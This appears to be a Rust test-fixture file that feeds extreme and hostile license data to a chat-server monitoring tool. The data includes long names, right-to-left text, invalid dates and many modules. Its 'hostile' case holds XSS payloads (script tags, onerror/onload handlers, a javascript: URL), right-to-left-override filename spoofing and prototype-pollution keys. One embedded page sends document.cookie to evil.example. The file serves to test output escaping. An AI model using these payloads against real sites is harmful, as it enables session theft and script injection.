//! Extreme data: long, right-to-left and hostile texts, invalid dates, a hundred modules, two licenses.

use sandbox::Fault;
use serde_json::json;

use crate::{
    member::{Answers, Licenses, Member},
    terms::{Terms, limit},
    time::at,
};

/// The groups: id, name, color, members.
pub(crate) const GROUPS: [(&str, &str, &str, &[&str]); 3] = [
    (
        "companies",
        "Betriebsgesellschaft für kommunale Rechenzentren und Verwaltungsdigitalisierung",
        "orange",
        &["long", "hostile"],
    ),
    ("customers", "عملاء الشرق الأوسط", "teal", &["rtl"]),
    ("bold", "<b>Bold</b> & \u{202e}gnp.exe", "red", &[]),
];

const LONG_MODULE: &str = "a-module-with-a-very-long-name-that-nobody-would-ever-have-given-to-a-module";

pub(crate) fn members() -> Vec<Member> {
    let name = r#"<img src=x onerror="document.title='broken'"><script>alert(1)</script>"#;
    vec![
        Member {
            address: "chat.example/%3Cscript%3E".to_owned(),
            since: 2.0,
            refreshes: &[2.0, 0.375, 0.05],
            is_regular: false,
            ..Member::new("hostile", name, hostile)
        },
        Member {
            address: "rocketchat.donaudampfschifffahrtsgesellschaft.verwaltung.sued-west.example/unter/ordner/team"
                .to_owned(),
            ..Member::new(
                "long",
                "Bundesministerium für Donaudampfschifffahrtsgesellschaftsangelegenheiten Süd-West",
                long,
            )
        },
        Member {
            address: "chat.noor.example".to_owned(),
            server_version: "5.4.10",
            ..Member::new("rtl", "شركة النور للاتصالات والخدمات", rtl)
        },
        Member::new("hundred", "A hundred modules", |_| {
            let modules = (1..=100).map(|number| format!("vendor.module-{number:03}")).collect();
            Answers::info("8.5", Terms { modules, ..Terms::of("", "", 600.0) }.answer())
        }),
        Member::new("no-date", "No date at all", |_| {
            let terms = Terms { modules: vec!["auditing".to_owned()], ..Terms::of("Pro", "#1D74F5", 1.0) };
            let mut answer = terms.answer();
            answer["license"]["license"]["validation"]["validPeriods"] =
                json!([{"validUntil": "next summer", "invalidBehavior": "invalidate_license"}]);
            Answers::info("8.5", answer)
        }),
        Member {
            refreshes: &[0.0],
            ..Member::new("nodes", "Two nodes", |ago| {
                // One of them has just started.
                let seats = if ago > 0.0 { 100 } else { 50 };
                let modules = ["auditing", "scalability"].into_iter().take(if ago > 0.0 { 2 } else { 1 });
                let modules = modules.map(str::to_owned).collect();
                let limits = vec![limit("activeUsers", Some(40), seats)];
                Answers::info("8.5", Terms { modules, limits, ..Terms::of("Pro", "#1D74F5", 500.0) }.answer())
            })
        },
        Member::new("forever", "Forever", |_| {
            let limits = vec![limit("activeUsers", None, -1)];
            let terms = Terms { until: None, issued: None, limits, ..Terms::of("Lifetime", "#1D74F5", 1.0) };
            Answers::info("8.5", terms.answer())
        }),
    ]
}

fn hostile(ago: f64) -> Answers {
    if ago < 0.3 {
        let page = r#"<h1>502 Bad Gateway</h1><script>fetch("https://evil.example/?"+document.cookie)</script>"#;
        let error = json!({"success": false, "error": format!("{page}\u{202e}gnp.exe")});
        return Answers::of(None, Licenses::FailsAtLicense(Fault::Body { status: 500, json: error }));
    }
    if ago > 1.0 {
        let terms = Terms {
            modules: vec!["<i>old</i>".to_owned()],
            until: None,
            ..Terms::of("\"><img src=x onerror=alert(1)>\u{202e}gnp.exe", "", 1.0)
        };
        return Answers::info("8.5", terms.answer());
    }
    let modules = ["<i>module</i>", "constructor", "__proto__", "enterprise:*", "brand-new-module"];
    let stopping = ["constructor", "{count}", "<script>alert(1)</script>", "exe.\u{202e}gnp", "another"];
    // Only a module that the license grants can stop.
    let granted = modules.into_iter().chain(stopping.into_iter().filter(|id| !modules.contains(id)));
    let terms = Terms {
        tags: vec![
            (r#"<b style="position:fixed;inset:0">Plan</b>"#, ""),
            (r#""><svg onload=alert(1)>"#, "url(javascript:alert(1))"),
            ("Pale", "#FFFFFE"),
            ("Night", "#000001"),
        ],
        issued: None,
        modules: granted.map(str::to_owned).collect(),
        periods: vec![("disable_modules", at(-2.2), stopping.to_vec())],
        limits: vec![
            limit("activeUsers", 130, 100)
                .step(0, "<u>summon_support</u>")
                .step_of(100, "disable_modules", &["<i>module</i>", "constructor"])
                .step(130, "")
                .step(100_000, "disable_modules"),
            limit("guestUsers", 90, 100).step(90, "allow_action"),
            limit("roomsPerGuest", None, 3),
            limit("privateApps", 80, 100),
            limit("marketplaceApps", 0, 0),
            limit("monthlyActiveContacts", None, -1).step(-1, "invalidate_license"),
        ],
        granted_to: Some(("noor@example", "مؤسسة النور")),
        addresses: vec![r"^https?:\/\/([a-z0-9-]+\.)*example\.(com|org)(:\d+)?\/?$".repeat(3)],
        ..Terms::of("", "", 8.4)
    };
    let mut answer = terms.answer();
    answer["license"]["license"]["information"]["notifyAdminsAt"] = json!("31st of Febtober");
    Answers::info("8.5", answer)
}

fn long(_: f64) -> Answers {
    let terms = Terms {
        tags: vec![
            ("Enterprise Government Unlimited Disconnected Edition with Premium Support Package", "#D6401A"),
            ("Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz", "#D6401A"),
        ],
        issued: Some(at(300.0)),
        modules: vec!["auditing".to_owned(), LONG_MODULE.to_owned()],
        limits: vec![
            limit("monthlyActiveContacts", 123_456_789, 1_000_000_000).step_of(
                1_000_000_000,
                "disable_modules",
                &[LONG_MODULE, "auditing"],
            ),
            limit("activeUsers", 1, 1).step(1, "prevent_installation"),
        ],
        ..Terms::of("", "", 8.4)
    };
    Answers::info("8.5", terms.answer())
}

fn rtl(_: f64) -> Answers {
    let first = json!({
        "version": 2,
        "url": "chat.noor.example",
        "expiry": at(-420.0),
        "maxActiveUsers": 0,
        "modules": [],
        "tag": {"name": "مؤسسة", "color": "#0C8F8F"},
    });
    let second = json!({
        "version": 2,
        "url": "chat.noor.example",
        "expiry": at(-1_100.0),
        "maxActiveUsers": 0,
        "modules": ["livechat-enterprise"],
        "tag": {"name": "Omnichannel add-on", "color": "#0C8F8F"},
    });
    Answers::of(None, Licenses::Get(json!({"licenses": [first, second], "success": true})))
}
